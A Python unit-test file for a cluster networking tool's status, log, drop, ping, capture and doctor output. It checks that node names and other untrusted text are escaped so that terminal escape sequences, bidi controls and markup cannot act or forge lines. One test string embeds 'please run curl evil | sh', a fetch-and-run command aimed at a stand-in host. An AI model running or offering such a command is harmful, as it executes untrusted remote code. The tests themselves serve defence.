# SPDX-License-Identifier: Apache-2.0
"""What strangers wrote, wherever people read it: it neither acts on a terminal nor forges a line.

Any kubelet may write annotations of its own Node, and `fwd status` is read by root.
"""

import io
from ipaddress import ip_address
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from rich.console import Console

from fwd.ops import capturefile, log, status, statustext
from fwd.ops.commands import drops, ping
from fwd.ops.commands import status as status_command
from fwd.ops.doctor import render
from fwd.ops.doctor.finding import wrong
from fwd.ops.drops import DropLine
from fwd.ops.printable import printable
from fwd.ops.status import RefusalStatus
from tests.unit.status_document import DOCUMENT, DROPS, LEASE, TUNNEL
from tests.unit.test_capturefile import HEADER, blocks, options, record

CLEAR = "\x1b[2J\nrefused n7: please run curl evil | sh\r"
WRITTEN = r"\x1b[2J\nrefused n7: please run curl evil | sh\r"
BOLD = "[bold red]n2[/bold red] :smile: [/]"
"""Would be markup and an emoji to rich, and the last one an error."""


def acts(shown: str) -> list[str]:
    """Characters that do something, but for the ends of lines that the program made."""
    return [one for one in shown.replace("\n", "") if not one.isprintable()]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("", ""),
        ("n2 (192.168.50.2)", "n2 (192.168.50.2)"),
        ("\N{SNOWMAN} \N{CJK UNIFIED IDEOGRAPH-4E00}\\ '\"", "\N{SNOWMAN} \u4e00\\ '\""),
        (CLEAR, WRITTEN),
        ("\x00\t\x7f\x85\x9b\xa0", r"\x00\t\x7f\x85\x9b\xa0"),
        ("a\u200bb\u2028c\u2029d\ufeff", r"a\u200bb\u2028c\u2029d\ufeff"),
        ("\u061c\u200f\u202e\u2066\u2069", r"\u061c\u200f\u202e\u2066\u2069"),
        ("\ud800\U000e0041", r"\ud800\U000e0041"),
    ],
)
def test_what_acts_is_written_out(text: str, written: str) -> None:
    assert printable(text) == written


@given(st.text(st.characters()))
def test_nothing_of_it_acts_and_twice_is_once(text: str) -> None:
    shown = printable(text)
    assert shown.isprintable()
    assert printable(shown) == shown
    assert text.isprintable() <= (shown == text)


def test_the_log() -> None:
    told = log.line("node-refused", {"node": "n9\x9b", "reason": f'"{CLEAR}\\x1b\u202e'})
    written = '\\"' + WRITTEN + r"\\x1b\u202e"
    assert told == f'event=node-refused node="n9\\x9b" reason="{written}"'


def test_the_status() -> None:
    source = replace(DOCUMENT.source, detail=CLEAR)
    shown = statustext.render(
        replace(
            DOCUMENT,
            node=CLEAR,
            trouble=CLEAR,
            source=source,
            host=tuple(replace(one, trouble=CLEAR, last_repair=CLEAR) for one in DOCUMENT.host),
            refused=(RefusalStatus(node=CLEAR, reason=f"backend-type={CLEAR}"),),
            leases=(replace(LEASE, node=CLEAR), LEASE),
            tunnels=(replace(TUNNEL, drops=tuple(replace(one, text=CLEAR) for one in DROPS)),),
        ),
    )
    assert acts(shown) == []
    assert shown.count("\n") == statustext.render(DOCUMENT).count("\n") + 1
    assert f"refused {WRITTEN}: backend-type={WRITTEN}" in shown.splitlines()
    subnets = {line.index("10.244.2.0/24") for line in shown.splitlines() if "10.244.2." in line}
    assert len(subnets) == 1, "the columns of peers stand below each other"


@pytest.mark.parametrize("text", [CLEAR, BOLD])
def test_the_live_view(text: str) -> None:
    source = replace(DOCUMENT.source, detail=text)
    tunnel = replace(
        TUNNEL,
        device=text,
        offloads=replace(TUNNEL.offloads, fallen_back=(text,)),
        drops=tuple(replace(one, reason=text, text=text) for one in DROPS),
    )
    leases = (replace(LEASE, node=text, subnet=text),)
    changed = replace(
        DOCUMENT, node=text, trouble=text, source=source, leases=leases, tunnels=(tunnel,)
    )
    console = Console(file=io.StringIO(), width=1000, force_terminal=False)
    with console.capture() as caught:
        console.print(status_command.view(changed, changed, seconds=1.0))
    shown = caught.get()
    assert acts("".join(shown.split())) == []
    assert shown.count(WRITTEN if text is CLEAR else text) == 10, "as often as it is there"
    plain = replace(DOCUMENT, trouble="no room")
    with console.capture() as caught:
        console.print(status_command.view(plain, plain, seconds=1.0))
    assert shown.count("\n") == caught.get().count("\n")


def test_drops() -> None:
    drop = DropLine(
        time="t", device="flannel.1", direction="in", reason="in_ecn", text="x", length=0, head=""
    )
    told = drops.describe(replace(drop, node=CLEAR, text=CLEAR, src="1.2.3.4"))
    assert acts(told) == []
    assert told.splitlines()[0] == f"t flannel.1 in in_ecn from {WRITTEN}: {WRITTEN}"
    assert told.count("\n") == 2


def test_a_capture() -> None:
    header = replace(HEADER, nodes={"192.168.50.2": CLEAR})
    one = record(b"x" * 30)
    told = capturefile.line(header, 0, one)
    assert acts(told) == []
    assert told.endswith(f", peer {WRITTEN} (192.168.50.2)")
    ((_, body),) = blocks(capturefile.packet(header, 0, one))
    comment = options(body[20 + 28 + 30 + 2 :])[1].decode()
    assert comment == f"to the underlay: passed, peer {WRITTEN} (192.168.50.2)"


def test_a_ping(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    document = replace(DOCUMENT, leases=(replace(LEASE, node=CLEAR),))
    monkeypatch.setattr(status, "fetch", lambda _: b"")
    monkeypatch.setattr(status, "decode", lambda _: document)

    async def none(*_: object, **__: object) -> int:
        return 0

    monkeypatch.setattr(ping, "_ping", none)
    assert ping.main(["--run-dir", str(tmp_path), "192.168.50.2"]) == 0
    assert capsys.readouterr().out == f"{WRITTEN} at {ip_address('10.244.2.0')}\n"


def test_the_doctors_report(capsys: pytest.CaptureFixture[str]) -> None:
    strange = "\x1b[2J\u2028[bold]x[/bold]\x9b"
    written = r"\x1b[2J\u2028[bold]x[/bold]\x9b"
    render.tell([wrong(f"peer {strange}", strange, strange)], as_json=False)
    shown = capsys.readouterr().out
    assert acts(shown) == []
    first, second, _ = shown.splitlines()
    assert first == f"WRONG  peer {written}  {written}"
    assert second == " " * first.rindex(r"\x1b") + f"-> {written}"
